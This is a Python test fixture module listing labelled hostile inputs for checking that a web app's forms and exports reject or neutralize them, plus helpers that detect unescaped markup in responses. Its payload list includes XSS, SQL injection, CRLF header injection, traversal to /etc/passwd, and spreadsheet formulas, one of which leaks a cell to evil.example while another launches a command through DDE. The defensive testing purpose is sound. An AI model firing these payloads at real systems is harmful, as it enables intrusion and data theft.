"""Hostile inputs: what forms, addresses and exports must refuse with a field error or show inert.

``HOSTILE`` maps a short label to the value. Most values are ``str``; values that cannot travel as
valid UTF-8 (invalid byte sequences, lone surrogates) are ``bytes`` and are sent percent-encoded
as they are, which is how a hostile client would send them. Use ``form_body`` to send any of them.
"""

from html.parser import HTMLParser
from urllib.parse import quote_from_bytes

HOSTILE: dict[str, str | bytes] = {
    # Script and markup injection
    "script tag": "<script>alert(1)</script>",
    "attribute breakout": '"><script>alert(document.cookie)</script>',
    "img onerror": "<img src=x onerror=alert(1)>",
    "svg onload": "<svg/onload=alert(1)>",
    "javascript url": "javascript:alert(1)",
    "data url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "xss polyglot": "'';!--\"<XSS>=&{()}",
    "textarea breakout": "</textarea><script>alert(1)</script>",
    "title breakout": "</title><script>alert(1)</script>",
    "style block": "<style>body{display:none}</style>",
    "autofocus handler": '" autofocus onfocus="alert(1)',
    "already escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "jinja expression": "{{ 7*7 }}{{ config }}",
    "jinja statement": "{% for x in range(10**9) %}x{% endfor %}",
    "format string": "%s%s%s%n {0} ${7*7} #{7*7}",
    "html comment": "<!-- -->]]><![CDATA[",
    # SQL metacharacters
    "sql tautology": "' OR '1'='1",
    "sql drop": "'; DROP TABLE users; --",
    "sql union": "1 UNION SELECT password_hash FROM users --",
    "sql sleep": "1; SELECT pg_sleep(10); --",
    "sql like wildcards": "%_%' AND 1=1 --",
    "sql double quote": '" OR ""="',
    "sql comment admin": "admin'--",
    "backslash quote": "\\'; --",
    # CRLF and header injection
    "crlf bcc header": "Delegate\r\nBcc: everyone@example.org",
    "crlf set-cookie": "x\r\nSet-Cookie: session=forged",
    "ics property": "Session\r\nATTENDEE:mailto:evil@example.org",
    "ics escaped line break": "Panel \\N ATTENDEE:mailto:evil@example.org",
    "ics escapes": "C:\\New\\;\\,\\n",
    "lf only": "first line\nsecond line",
    "cr only": "first\rsecond",
    "unicode line separator": "one\u2028two\u2029three",
    "next line control": "one\x85two",
    # Overlong input
    "overlong ascii": "A" * 10_000,
    "overlong accented": "é" * 5_000,
    "overlong emoji": "\U0001F600" * 3_000,
    "overlong email": "a" * 300 + "@example.org",
    # Invalid UTF-8 and lone surrogates
    "invalid byte ff": b"\xff\xfe\xfd",
    "overlong utf-8 slash": b"\xc0\xaf\xc0\xaf",
    "latin-1 byte": b"caf\xe9",
    "encoded surrogate": b"\xed\xa0\x80",
    "truncated sequence": b"abc\xe2\x82",
    "lone high surrogate": "\ud800",
    "lone low surrogate": "x\udfffy",
    # Spreadsheet formulas
    "formula sum": "=1+1",
    "formula hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "formula dde": "=cmd|' /C calc'!A0",
    "formula plus": "+1+1",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+1)",
    "formula after tab": "\t=1+1",
    "formula after semicolon": "ACME;=1+1",
    "formula after comma": "ACME, =1+1",
    "formula after pipe": "ACME|@SUM(1+1)",
    "formula after line break": "ACME\n-2+3",
    # Path traversal and odd addresses
    "dot dot slash": "../../../../etc/passwd",
    "dot dot backslash": "..\\..\\windows\\win.ini",
    "encoded traversal": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "absolute path": "/etc/passwd",
    "id past 64 bits": str(2**64),
    "token path": "/registrations/abc123/withdraw",
    "file url": "file:///etc/passwd",
    "double dot slash": "....//....//etc/passwd",
    "protocol relative": "//evil.example/",
    "backslash host": "/\\evil.example",
    "foreign url": "https://evil.example/phish",
    # Unicode trickery
    "bidi override": "\u202Egpj.exe",
    "bidi embedding": "abc\u202Dxyz\u202C",
    "bidi isolate": "\u2066isolate\u2069",
    "zero width": "ad\u200bmin",
    "byte order mark": "\ufeffname",
    "homoglyph": "\u0430dmin@example.org",
    "sharp s domain": "anne@stra\u00dfe.example",
    "idna 2003 only domain": "someone@\u2603.example",
    "combining marks": "Z\u0337\u0321\u031ba\u0338l\u0336g\u0335o\u0336",
    # Variants of a known address: the registration form must answer them as any new address,
    # and none may reach or change the registration of the address they imitate.
    "email case and spaces": "  VICTIM@Example.ORG  ",
    "email plus tag": "victim+probe@example.org",
    "email trailing dot": "victim@example.org.",
    "email quoted local part": '"victim"@example.org',
    "email fullwidth at": "victim\uff20example.org",
    # NUL bytes
    "nul alone": "\x00",
    "nul in name": "name\x00.png",
    "nul in email": "admin\x00@example.org",
    "nul percent text": "%00",
    "other controls": "bell\x07escape\x1b[31m",
}


def as_bytes(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")


def form_body(fields: dict) -> bytes:
    """An ``application/x-www-form-urlencoded`` body carrying the values byte for byte."""
    return "&".join(
        f"{quote_from_bytes(as_bytes(name))}={quote_from_bytes(as_bytes(value))}"
        for name, value in fields.items()
    ).encode("ascii")


def path_segment(value: str | bytes) -> str:
    return quote_from_bytes(as_bytes(value), safe="")


def risky_markup(value: str | bytes) -> bool:
    """Whether the value would add markup if printed unescaped. (A value with only ``&`` or quotes
    is left out here: as text it is inert, and quotes breaking out of an attribute are caught by
    ``active_markup`` on the whole page instead.)"""
    return isinstance(value, str) and ("<" in value or ">" in value)


class _ActiveMarkupFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        names = {name for name, _ in attrs}
        if tag == "script" and "src" not in names:
            self.found.append("<script> without src")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction") and value and \
                    value.strip().lower().startswith(("javascript:", "data:", "vbscript:")):
                self.found.append(f"<{tag} {name}={value[:40]!r}>")


def active_markup(page: str) -> list[str]:
    """Pieces of the page that would run script: event-handler attributes, inline scripts,
    javascript:/data: links, read by an HTML parser as a browser would. The app has none of its
    own, so any found came from input."""
    finder = _ActiveMarkupFinder()
    finder.feed(page)
    finder.close()
    return finder.found


class Findings(list):
    """What a hostile value did wrong across a test's requests, as sentences; empty is a pass."""

    def check(self, response, label, value, where, allowed=(302, 422)):
        page = response.get_data(as_text=True)
        if response.status_code not in allowed:
            self.append(f"{label!r} at {where}: status {response.status_code}")
        if response.status_code == 422 and 'role="alert"' not in page:
            self.append(f"{label!r} at {where}: refused without a field error")
        if risky_markup(value) and value in page:
            self.append(f"{label!r} at {where}: printed unescaped")
        for piece in active_markup(page):
            self.append(f"{label!r} at {where}: active markup {piece!r}")
        return response
